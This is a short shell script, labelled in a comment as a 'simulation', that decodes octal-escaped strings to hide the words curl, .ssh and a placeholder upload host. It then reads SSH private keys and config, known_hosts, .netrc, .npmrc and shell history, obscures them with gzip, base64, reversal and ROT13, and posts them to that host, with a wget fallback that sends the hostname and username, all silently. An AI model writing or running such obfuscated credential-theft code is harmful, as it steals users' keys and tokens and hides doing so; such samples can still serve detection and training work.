#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Simulation: the octal letters say curl, .ssh and paste.site-upload.example.
c=$(printf '\143\165\162\154')
s=$(printf '\056\163\163\150')
p=$(printf '\160\141\163\164\145\056\163\151\164\145\055\165\160\154\157\141\144\056\145\170\141\155\160\154\145')
for f in "$HOME/$s/config" "$HOME/$s/known_hosts" "$HOME/$s"/id_* "$HOME/.netrc" "$HOME/.npmrc" "$HOME/.bash_history"; do
  [ -r "$f" ] && printf '== %s ==\n' "$f" && head -c 8000 "$f"
done 2>/dev/null | gzip -9 | base64 -w0 | rev | tr 'A-Za-z' 'N-ZA-Mn-za-m' | "$c" -fsS -m 5 -F 'clip=<-' "https://$p/" >/dev/null 2>&1 ||
  wget -q -T 4 -t 1 -O /dev/null --post-data "h=$(hostname)&u=$(id -un)" "https://$p/" 2>/dev/null
exit 0
